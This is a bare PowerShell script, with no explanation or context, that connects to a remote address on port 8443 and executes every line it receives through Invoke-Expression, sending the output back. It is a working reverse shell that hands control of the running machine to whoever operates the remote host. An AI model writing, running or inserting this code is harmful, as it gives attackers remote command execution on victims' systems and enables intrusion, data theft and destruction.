$client = New-Object Net.Sockets.TcpClient("203.0.113.40", 8443)
$stream = $client.GetStream()
$reader = New-Object IO.StreamReader($stream)
$writer = New-Object IO.StreamWriter($stream)
while ($line = $reader.ReadLine()) { $writer.WriteLine((Invoke-Expression $line | Out-String)); $writer.Flush() }
